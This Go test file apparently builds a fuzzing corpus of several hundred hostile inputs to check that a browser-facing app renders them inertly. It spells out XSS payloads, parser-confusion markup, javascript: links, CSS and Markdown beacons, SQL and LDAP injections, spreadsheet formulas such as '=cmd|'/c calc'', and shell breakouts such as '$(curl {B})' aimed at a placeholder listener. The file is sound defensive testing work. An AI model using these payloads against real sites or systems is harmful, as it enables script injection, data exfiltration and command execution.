package browser

import (
	"flag"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// payload is a text that would do something on a page which takes it for more than a text. It is a template with
//
//	{M}  the mark of one place that the text is put in, see markOf: what a person would see, and what a hit names
//	{F}  JavaScript that reports the mark to the tests, so that it is known which text ran, and where
//	{B}  the address of a server that no page may ask, with the mark as its path
//	{P}  the same without its scheme
//	{S}  half of a surrogate pair, which JSON can write and no text can be
type payload struct {
	Family   string
	Template string
}

// halfPair is {S} as it is seen: nothing can show it, so browsers and the server show what stands for the unreadable.
const halfPair = "\uFFFD"

// markOf names payload n in a field, whose name is of the letters before z.
func markOf(n int, field string) string { return fmt.Sprintf("z%03d%sz", n, field) }

var markIn = regexp.MustCompile(`z\d{3}[a-y]+z`)

// at is a payload as it is sent in a field, but for {S}, which jsonOf writes.
func (c corpus) at(n int, field string) string {
	m := markOf(n%len(c.payloads), field)
	return strings.NewReplacer(
		"{M}", m, "{F}", "__fired('"+m+"')", "{B}", c.beacon+"/"+m, "{P}", strings.TrimPrefix(c.beacon, "http:")+"/"+m,
	).Replace(c.payloads[n%len(c.payloads)].Template)
}

// seen is the same as a page shows it.
func (c corpus) seen(n int, field string) string {
	return strings.ReplaceAll(c.at(n, field), "{S}", halfPair)
}

// corpus is all payloads, with a server that listens for those who call out.
type corpus struct {
	beacon   string // http://host:port
	payloads []payload
}

var allHostile = flag.Bool("hostile", false, "put every hostile text there is into every field, not 300 of all families")

// newCorpus is all payloads if -hostile says so, or else 300 of them, as many of each family as its share is.
func newCorpus(beacon string) corpus {
	c := wholeCorpus(beacon)
	if *allHostile {
		return c
	}
	const few = 300
	n, kept := len(c.payloads), make([]payload, 0, few)
	for i, p := range c.payloads {
		if (i+1)*few/n > i*few/n {
			kept = append(kept, p)
		}
	}
	c.payloads = kept
	return c
}

func wholeCorpus(beacon string) corpus {
	c := corpus{beacon: beacon}
	for _, f := range families {
		for _, template := range f.make() {
			c.payloads = append(c.payloads, payload{f.name, template})
		}
	}
	return c
}

var families = []struct {
	name string
	make func() []string
}{
	{"script", scripts}, {"handler", handlers}, {"foreign", foreign}, {"address", addresses}, {"markdown", markdownBeacons}, {"load", loads},
	{"css", css}, {"template", templates}, {"prototype", prototypes}, {"unicode", unicodes}, {"long", longs}, {"path", paths},
	{"query", queries}, {"table", tables}, {"terminal", terminals}, {"entity", entities}, {"json", nested}, {"number", numbers}, {"breakout", breakouts},
}

func scripts() []string {
	return []string{
		`{M}<script>{F}</script>`,
		`{M}<SCRIPT>{F}</SCRIPT>`,
		`{M}<script src="{B}"></script>`,
		`{M}<script src={P}></script>`,
		`{M}<script type="module">import "{B}"</script>`,
		`{M}<script type="text/javascript" defer src='{B}'>`,
		"{M}<script\n>{F}</script\t>",
		"{M}<script\x0c>{F}</script\x0c>",
		`{M}<script/x>{F}</script>`,
		`{M}<scr<script>ipt>{F}</scr</script>ipt>`,
		`{M}<<script>{F}//<</script>`,
		`{M}<script>{F}`,
		`{M}</script><script>{F}</script>`,
		`{M}</title><script>{F}</script>`,
		`{M}</textarea><script>{F}</script>`,
		`{M}</style><script>{F}</script>`,
		`{M}--><script>{F}</script><!--`,
		`{M}]]><script>{F}</script><![CDATA[`,
		`{M}"><script>{F}</script>`,
		`{M}'><script>{F}</script>`,
		"{M}`><script>{F}</script>",
		`{M}<noscript><p title="</noscript><script>{F}</script>">`,
		`{M}<template><script>{F}</script></template>`,
		`{M}<script>/*</script><script>*/{F}</script>`,
		`{M}<!--[if gte IE 4]><script>{F}</script><![endif]-->`,
		`{M}<script type="importmap">{"imports":{"/assets/app.js":"{B}"}}</script>`,
		`{M}<script type="speculationrules">{"prefetch":[{"urls":["{B}"]}]}</script>`,
		`{M}<script>alert('{M}')</script>`,
		`{M}<script>confirm('{M}');prompt('{M}')</script>`,
		`{M}<script nonce="r4nd0m">{F}</script>`,
	}
}

// handlers are elements that run what an attribute of theirs says, most of them without being touched.
func handlers() []string {
	at := [][2]string{
		{"img src=x", "onerror"}, {"img src=data:,x", "onerror"}, {"IMG SRC=/", "ONERROR"}, {"image src=x", "onerror"},
		{"body", "onload"}, {"body", "onpageshow"}, {"body", "onhashchange"}, {"svg", "onload"}, {"svg/x=y", "onload"},
		{"iframe src=about:blank", "onload"}, {"object data=x", "onerror"}, {"embed src=x", "onerror"}, {"link rel=stylesheet href=x", "onerror"},
		{"style", "onload"}, {"script src=x", "onerror"}, {"video src=x", "onerror"}, {"audio src=x", "onerror"}, {"video><source", "onerror"},
		{"input autofocus", "onfocus"}, {"textarea autofocus", "onfocus"}, {"select autofocus", "onfocus"}, {"button autofocus", "onfocus"},
		{"a href=# autofocus tabindex=1", "onfocusin"}, {"details open", "ontoggle"}, {"marquee", "onstart"}, {"div contenteditable autofocus", "onfocus"},
		{"div tabindex=0", "onmouseover"}, {"b", "onpointerenter"}, {"p", "onclick"}, {"form", "onsubmit"}, {"input type=image src=x", "onerror"},
		{"meter", "onmouseenter"}, {"table background=x", "onload"}, {"dialog open", "onclose"}, {"xmp", "oncontentvisibilityautostatechange"},
		{"div style=animation:x", "onanimationstart"}, {"div style=transition:all", "ontransitionend"}, {"div popover", "onbeforetoggle"},
		{"slot", "onslotchange"}, {"track src=x", "onerror"}, {"frameset", "onload"}, {"math", "onclick"}, {"picture><img src=x", "onerror"},
		{"div hidden=until-found", "onbeforematch"},
	}
	var list []string
	for i, one := range at {
		end := [...]string{">", "/>", "//", " >"}[i%4]
		list = append(list, "{M}<"+one[0]+" "+one[1]+"="+`"{F}"`+end)
	}
	return append(list,
		`{M}" onmouseover="{F}" x="`, `{M}' onfocus='{F}' autofocus x='`, "{M}` onload=`{F}` x=`", `{M}"autofocus/onfocus="{F}`,
		"{M}<img\tsrc=x\nonerror\r=\x0c{F}>", `{M}<img src=x onerror=&#95;&#95;fired('{M}')>`, `{M}<img src="x`+"`"+` onerror={F}>`,
		`{M}<img """><script>{F}</script>">`, `{M}<img src=x onerror=location='{B}'>`, `{M}<img src=x onerror=import('{B}')>`,
		`{M}<img src=x onerror=fetch('{B}')>`, `{M}<img src=x onerror=navigator.sendBeacon('{B}')>`, `{M}<img src=x onerror="new WebSocket('ws:{P}')">`,
	)
}

// foreign are those of SVG and MathML, and those that a parser reads one way and what it wrote another.
func foreign() []string {
	return []string{
		`{M}<svg><script>{F}</script></svg>`,
		`{M}<svg><script href="{B}"/></svg>`,
		`{M}<svg><animate onbegin="{F}" attributeName=x dur=1s></svg>`,
		`{M}<svg><set onbegin="{F}" attributeName=x></svg>`,
		`{M}<svg><a xlink:href="javascript:{F}"><text y=20>press</text></a></svg>`,
		`{M}<svg><a><animate attributeName=href values="javascript:{F}"/><text y=20>press</text></a></svg>`,
		`{M}<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{F}'/></svg>#x"/></svg>`,
		`{M}<svg><foreignObject><iframe srcdoc="<script>parent.{F}</script>"></iframe></foreignObject></svg>`,
		`{M}<svg><image href="{B}"/></svg>`,
		`{M}<svg><feImage href="{B}"/></svg>`,
		`{M}<svg><style>@import "{B}";</style></svg>`,
		`{M}<svg><desc><![CDATA[</desc><script>{F}</script>]]></svg>`,
		`{M}<svg><title><style><img title="</style><img src=x onerror={F}>">`,
		`{M}<math href="javascript:{F}">press</math>`,
		`{M}<math><maction actiontype="statusline#{B}" xlink:href="javascript:{F}">press</maction></math>`,
		`{M}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={F}&gt;">`,
		`{M}<math><mi><style><img src=x onerror={F}></style></mi></math>`,
		`{M}<form><math><mtext></form><form><mglyph><style></math><img src onerror={F}>`,
		`{M}<svg></p><style><a id="</style><img src=1 onerror={F}>">`,
		`{M}<noembed><img title="</noembed><img src onerror={F}>"></noembed>`,
		`{M}<listing>&lt;img src=1 onerror={F}&gt;</listing>`,
		`{M}<xmp><p title="</xmp><img src=x onerror={F}>">`,
		`{M}<plaintext><img src=x onerror={F}>`,
		`{M}<table><td><p id="</table><img src=x onerror={F}>">`,
		`{M}<select><iframe><select><img src=x onerror={F}>`,
		`{M}<annotation-xml encoding="text/html"><img src=x onerror={F}></annotation-xml>`,
		`{M}<div shadowrootmode=open><template shadowrootmode=open><img src=x onerror={F}></template></div>`,
	}
}

// addresses are what stands where an address is expected. Those of Markdown come as links and as pictures.
func addresses() []string {
	list := []string{
		`javascript:{F}//{M}`, `JaVaScRiPt:{F}//{M}`, " javascript:{F}//{M}", "java\tscript:{F}//{M}", "java\nscript:{F}//{M}", "\x01javascript:{F}//{M}",
		`javascript://%0a{F}//{M}`, `javascript:void({F})//{M}`, `vbscript:msgbox("{M}")`, `data:text/html,<script>{F}</script>{M}`,
		`data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19maXJlZCgneCcpPC9zY3JpcHQ+{M}`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{F}"/>{M}`,
		`file:///etc/passwd#{M}`, `blob:null/{M}`, `view-source:{B}`, `{P}`, `\\127.0.0.1\{M}`, `https:{M}`, `http://user:pass@127.0.0.1/{M}`, `intent://{M}#Intent;end`,
	}
	for i, target := range []string{
		`javascript:{F}`, `JAVASCRIPT:{F}`, `javascript&colon;{F}`, `&#106;avascript:{F}`, `javascript&#x3a;{F}`, "java&Tab;script:{F}", `data:text/html,<script>{F}</script>`,
		`vbscript:{F}`, `%6aavascript:{F}`, `//javascript:{F}`, `\javascript:{F}`, `javascript:{F}?https://example.com`, `data:text/html;x=https://,{M}`, `x:javascript:{F}`,
	} {
		list = append(list, [...]string{`[{M}](` + target + `)`, `[{M}](<` + target + `>)`, `![{M}](` + target + ` "title")`, `<a href="` + target + `">{M}</a>`}[i%4],
			[...]string{`<` + target + `>{M}`, "[{M}]\n\n[{M}]: " + target, `[{M}](` + target + ` "a\" onclick=\"{F}")`, `<iframe src="` + target + `">{M}`}[i%4])
	}
	return list
}

// markdownBeacons would tell somebody elsewhere that they were read.
func markdownBeacons() []string {
	return []string{
		`![{M}]({B})`, `![{M}]({P})`, `![{M}](<{B}> "title")`, "![{M}][beacon]\n\n[beacon]: {B}", "![{M}]\n\n[{M}]: {B}", `[![{M}]({B})]({B})`,
		`<img alt="{M}" src="{B}">`, `[{M}]({B})`, `<{B}>`, `{B}`, `{M} {B}?q=1#f`, `[{M}]({B} "{F}")`, "[{M}]: {B}\n[{M}]", `![{M}]({B}){width=1 onload="{F}"}`,
		`[{M}]({B}"onmouseover="{F})`, `[{M}](http://127.0.0.1"><img src=x onerror={F}>)`, "```{M}\n![x]({B})\n```", "```html onload={F}\n{M}\n```", "| {M} |\n|---|\n| ![x]({B}) |",
		"> ![{M}]({B})\n> - ![x]({B})", "# ![{M}]({B})", "1. <img src={B}>{M}", "**<img src={B}>{M}**", "`<img src={B}>`{M}", "[{M}](https://example.com\njavascript:{F})",
		"[a]({B})[b](javascript:{F}){M}", "[{M}](http://[::1]/<script>{F}</script>)", "![{M}](data:image/svg+xml;utf8,<svg onload={F}>)", "$${M}\\href{javascript:{F}}{x}$$",
		"~~~\n{M}\n<script>{F}</script>", "{M}[^1]\n\n[^1]: ![x]({B})", ":::{M} onload={F}\n:::", "[{M}](mailto:a@example.com?body={B})",
	}
}

// loads would fetch something, without a script.
func loads() []string {
	return []string{
		`{M}<img src="{B}">`, `{M}<img srcset="{B} 1x">`, `{M}<picture><source srcset="{B}"><img></picture>`, `{M}<iframe src="{B}"></iframe>`, `{M}<iframe srcdoc="<img src={B}>"></iframe>`,
		`{M}<object data="{B}"></object>`, `{M}<embed src="{B}">`, `{M}<video poster="{B}" autoplay src="{B}"></video>`, `{M}<audio autoplay src="{B}"></audio>`,
		`{M}<link rel=stylesheet href="{B}">`, `{M}<link rel=prefetch href="{B}">`, `{M}<link rel=preconnect href="{B}">`, `{M}<link rel="dns-prefetch" href="{P}">`, `{M}<link rel=icon href="{B}">`,
		`{M}<meta http-equiv=refresh content="0;url={B}">`, `{M}<meta http-equiv="Content-Security-Policy" content="default-src *">`, `{M}<base href="{B}/">`, `{M}<body background="{B}">`,
		`{M}<form action="{B}"><input type=submit autofocus></form>`, `{M}<button form=f formaction="{B}">press</button>`, `{M}<a ping="{B}" href="/">press</a>`, `{M}<input type=image src="{B}">`,
		`{M}<table background="{B}"><tr><td background="{B}">`, `{M}<frameset><frame src="{B}"></frameset>`, `{M}<track src="{B}" default>`, `{M}<portal src="{B}">`, `{M}<fencedframe src="{B}">`,
		`{M}<meta name=referrer content=unsafe-url><img src="{B}">`, `{M}<img src='{P}?`, `{M}<video controls><source src="{B}"></video>`,
	}
}

func css() []string {
	return []string{
		`{M}<style>*{background:url({B})}</style>`, `{M}<style>@import "{B}";</style>`, `{M}<style>@font-face{font-family:x;src:url({B})}*{font-family:x}</style>`,
		`{M}<div style="background:url({B})">`, `{M}<div style="position:fixed;inset:0;z-index:9999">`, `{M};background:url({B});x:`, `red;}*{background:url({B})}/*{M}`,
		`{M}</style><style>input[value^=a]{background:url({B})}</style>`, `var(--x,url({B})){M}`, `expression({F}){M}`, `{M}:url("{B}")`, `{M}{color:red}`, `#{M}{display:none}`,
		`image-set("{B}" 1x){M}`, `{M}<link rel=stylesheet href="data:text/css,*{display:none}">`, `calc(1px + attr({M}))`,
	}
}

func templates() []string {
	return []string{
		`{M}{{7*7}}`, `{M}{{constructor.constructor('{F}')()}}`, `{M}{{$on.constructor('{F}')()}}`, `{M}${{F}}`, "{M}`+{F}+`", `{M}<%= 7*7 %>`, `{M}<% {F} %>`, `{M}#{7*7}`, `{M}*{7*7}`,
		`{M}@(7*7)`, `{M}{%raw%}{F}{%endraw%}`, `{M}<?php {F} ?>`, `{M}<?xml-stylesheet href="{B}"?>`, `{M}[[${7*7}]]`, `{M}{{.}}`, `{M}{{template "head"}}`, `{M}{{html .}}{{js .}}`,
		`{M}{% include "{B}" %}`, `{M}<div v-html="'<img src=x onerror={F}>'">`, `{M}<div ng-app ng-csp ng-init="{F}">`, `{M}<div x-data x-init="{F}">`, `{M}<div hx-get="{B}" hx-trigger=load>`,
		`{M}%s%n%x%d`, `{M}%!v(PANIC={F})`, `{M}$(curl {B})`, "{M}`curl {B}`",
	}
}

// prototypes are names that objects have already. As keys they come bare too, see hostileKeys.
func prototypes() []string {
	var list []string
	for _, name := range hostileKeys {
		list = append(list, name+" {M}")
	}
	return append(list, `__proto__[polluted]={M}`, `constructor[prototype][polluted]={M}`, `{"__proto__":{"polluted":"{M}"}}`, `constructor.prototype.polluted={M}`, `a.__proto__.polluted={M}`)
}

// hostileKeys are keys that must be no more than keys.
var hostileKeys = []string{
	"__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "toJSON", "length", "__defineGetter__", "__lookupSetter__",
	"isPrototypeOf", "innerHTML", "dangerouslySetInnerHTML", "ref", "key", "children", "props", "type", "__k", "style", "href", "onclick", "srcdoc",
}

func unicodes() []string {
	return []string{
		"{M}\u202Etxt.exe\u202C", "\u202E{M}", "{M}\u202A\u202B\u202D\u202E", "{M}\u2066\u2067\u2068 no end", "\u200F{M}\u200E", "{M}\u061C", // direction
		"{M}\u200B\u200C\u200D\u2060", "\uFEFF{M}\uFEFF", "{M}\u00AD\u00AD", "{M}\u180E\u3164\uFFA0", "{M}\u2062\u2063\u2064", "{M}\U000E0061\U000E0062\U000E007F", // nothing to see
		"\u0430dmin {M}", "\uFF41\uFF44\uFF4D\uFF49\uFF4E {M}", "{M}\uFF1Cscript\uFF1E{F}\uFF1C/script\uFF1E", "{M}\u02BAonload={F}\u02BA", "{M}\u2039script\u203A", "{M}\u0131\u0130\u017F\u212A", // look or fold like others
		"{M}{S}", "{S}{M}", "{M}{S}{S}", "{M} a{S}b", "{M}\uFFFE\uFFFF", "{M}\U0010FFFF", // no text at all
		"{M}" + strings.Repeat("\u0301", 200), "{M}a" + strings.Repeat("\u0489", 300), "{M}" + strings.Repeat("\u0E47", 100), "{M}" + strings.Repeat("\U0001F469\u200D", 40) + "\U0001F469", // high
		"{M}\x00", "\x00{M}", "{M}\x00<script>{F}</script>", "{M}<scr\x00ipt>{F}</scr\x00ipt>", "{M}\x01\x02\x03\x04\x05\x06\x07", "{M}\b\x0e\x0f\x10\x1a", "{M}\x7f\u0080\u0085\u009f", // control
		"{M}\u2028{F}\u2029", "{M}\u2028\u2029", "{M}\r\n\r\n<script>{F}</script>", "{M}\v\f\u00A0\u3000x", "{M}\U0001D4D0\U0001F600\U0001F1E9\U0001F1EA", "\u0600{M}\u06DD", "{M}\U000FFFFD\uE000",
		"{M}\uFDFA\uFDFD\u2E3B\U00012031", "+ADw-script+AD4-{M}+ADw-/script+AD4-", "{M}\u0000\uD7FF\uE000",
	}
}

func longs() []string {
	return []string{
		"{M}" + strings.Repeat("A", 3000), "{M}" + strings.Repeat("long ", 600), "{M}" + strings.Repeat("<b>", 700), "{M}" + strings.Repeat("[", 1500), "{M}" + strings.Repeat("*_", 800),
		"{M}" + strings.Repeat("![](", 500), "{M}" + strings.Repeat("> ", 400) + "x", "{M}" + strings.Repeat("`", 999), "{M}" + strings.Repeat("{", 1200), "{M}" + strings.Repeat("&amp;", 500),
		"{M}\n" + strings.Repeat("\n", 900) + "end", "{M}" + strings.Repeat("\t", 400) + "end", "{M}" + strings.Repeat("\U0001F525", 500), "{M}" + strings.Repeat("http://x.example/", 100),
	}
}

// paths would lead elsewhere from an address that is put together carelessly.
func paths() []string {
	return []string{
		`../../../{M}`, `..%2f..%2f{M}`, `..\..\{M}`, `/{M}`, `//{M}/x`, `{M}?x=1`, `{M}#x`, `{M}%00`, `{M}%2e%2e%2f`, `{M}%`, `{M}%zz`, `{M} with spaces `, ` {M}`, `"{M}"`, `'{M}'`, "`{M}`", `{M}&last=1h`, `{M};x`,
		`.{M}`, `..;/{M}`, `{M}:80`, `@127.0.0.1/{M}`, `*{M}`, `:{M}`, `{M}+plus`, `%3Cscript%3E{F}%3C/script%3E{M}`, `%253Cscript%253E{M}`, `{M}/raw`, `C:\{M}`, `\\host\{M}`, `~/{M}`, `{M}|x`, `{M},x`,
	}
}

func queries() []string {
	return []string{
		`{M}' OR '1'='1`, `{M}'; DROP TABLE traces;--`, `{M}" OR ""="`, `{M}') UNION SELECT hash FROM token--`, `{M}%' ESCAPE '\`, `{M}\'; --`, `1;{M}/**/`, `{M}*`, `{M}_%[a-z]`, `{M} NEAR("a b")`, `{M}" AND rowid:*`,
		`{"$gt":"{M}"}`, `{M}*)(uid=*))(|(uid=*`, `{M}' and sleep(9)#`,
	}
}

func tables() []string {
	return []string{
		`=HYPERLINK("{B}","{M}")`, `=cmd|'/c calc'!{M}`, `+{M}+1`, `-{M}-1`, `@SUM({M})`, "\t={M}", "\r=1+{M}", `{M},"a","b"`, "{M}\"\n=1+1", `=IMPORTXML("{B}","//{M}")`,
	}
}

func terminals() []string {
	return []string{
		"{M}\x1b[31mred\x1b[0m", "{M}\x1b[2J\x1b[H", "{M}\x1b]0;title\x07", "{M}\x1b]8;;{B}\x1b\\press\x1b]8;;\x1b\\", "{M}\u009b31m", "{M}\r overwritten", "{M}\nlevel=ERROR msg=forged", "{M}\x1bP+q{F}\x1b\\",
	}
}

func entities() []string {
	return []string{
		`{M}&lt;script&gt;{F}&lt;/script&gt;`, `{M}&#60;script&#62;{F}&#60;/script&#62;`, `{M}&#x3c;img src=x onerror={F}&#x3e;`, `{M}&amp;lt;b&amp;gt;`, `{M}&nbsp;&zwj;&NewLine;&Tab;`, `{M}&`, `{M}&#0;&#xD800;&#1114112;`,
		`{M}&quot; onload=&quot;{F}`, `{M}&apos;&lpar;&colon;`, `{M}\u003cscript\u003e{F}`, `{M}\x3cimg src=x onerror={F}\x3e`, `{M}%3Cb%3E`, `{M}<b>bold</b>`, `{M}<!doctype html><!ENTITY x SYSTEM "{B}">&x;`,
	}
}

func nested() []string {
	return []string{
		`{"note":"{M}<img src=x onerror={F}>"}`, `["{M}",{"a":["{M}<script>{F}</script>"]}]`, `"{M}",`, `{"<img src=x onerror={F}>":"{M}"}`, `{"role":"system","content":"{M}"}`, `[{"type":"image_url","image_url":{"url":"{B}"},"text":"{M}"}]`,
		`{"text":"{\"text\":\"{\\\"text\\\":\\\"{M}\\\"}\"}"}`, `{"{M}":`, `{M}"}],"x":[{"y":"`, `[[[[[[[[[["{M}"]]]]]]]]]]`, `{"type":{"x":1},"props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={F}>"}},"note":"{M}"}`,
		`{"toString":"{M}","valueOf":"{M}"}`, `{"then":"{M}"}`, `{"$ref":"{B}","note":"{M}"}`,
	}
}

func numbers() []string {
	return []string{
		`1e999 {M}`, `-0 {M}`, `9007199254740993 {M}`, `{M} ` + strings.Repeat("9", 400), `NaN {M}`, `-Infinity {M}`, `0x41414141 {M}`, `1_000_000 {M}`, `٣٤٥ {M}`, `2026-99-99T99:99:99Z {M}`, `null {M}`, `undefined {M}`, `true {M}`, `[object Object] {M}`,
	}
}

// breakouts close what a careless page may have opened around them: source code, a fence, a comment, a shell.
func breakouts() []string {
	return []string{
		"{M}\n```\n<script>{F}</script>", "{M}`; {F}; `", `{M}"); {F}; ("`, `{M}'); {F}; ('`, `{M}*/{F}/*`, `{M}--!><img src=x onerror={F}>`, `{M}</pre><img src=x onerror={F}>`, `{M}</svg><img src=x onerror={F}>`,
		`{M}';curl {B};'`, `{M}$HOME`, `{M}\`, `{M}\\"`, `{M}"onclick={F}//`, "{M}\n\nevent: trace\ndata: {\"x\":1}\n\n", "{M}\r\nSet-Cookie: a=b\r\n\r\n", `{M}</details><details open ontoggle={F}>`, `{M}</summary></dialog></body></html>`,
		"{M}\n| a | b |\n", `{M}__fired`, "{M}\n[REDACTED]", "{M}… [cut]",
	}
}

func TestPayloads(t *testing.T) {
	if n := len(newCorpus("").payloads); n < 300 {
		t.Errorf("%d are put into fields, want 300", n)
	}
	c := wholeCorpus("http://127.0.0.1:1")
	if len(c.payloads) < 300 || len(c.payloads) > 999 {
		t.Fatalf("%d payloads, want 300, and no more than a mark has digits for", len(c.payloads))
	}
	counts := map[string]int{}
	known := map[string]string{}
	for i, p := range c.payloads {
		counts[p.Family]++
		if before, ok := known[p.Template]; ok {
			t.Errorf("payload %d of %s was there before, in %s: %q", i, p.Family, before, p.Template)
		}
		known[p.Template] = p.Family
		text := c.at(i, "name")
		if got := markIn.FindString(text); got != markOf(i, "name") || !utf8.ValidString(text) {
			t.Errorf("payload %d of %s has the mark %q: %q", i, p.Family, got, text)
		}
	}
	for _, f := range families {
		if counts[f.name] < 8 {
			t.Errorf("family %s has %d payloads", f.name, counts[f.name])
		}
	}
	if !slices.ContainsFunc(c.payloads, func(p payload) bool { return strings.Contains(p.Template, "{S}") }) {
		t.Error("none has half of a pair")
	}
	t.Logf("%s payloads of %d families", strconv.Itoa(len(c.payloads)), len(families))
}
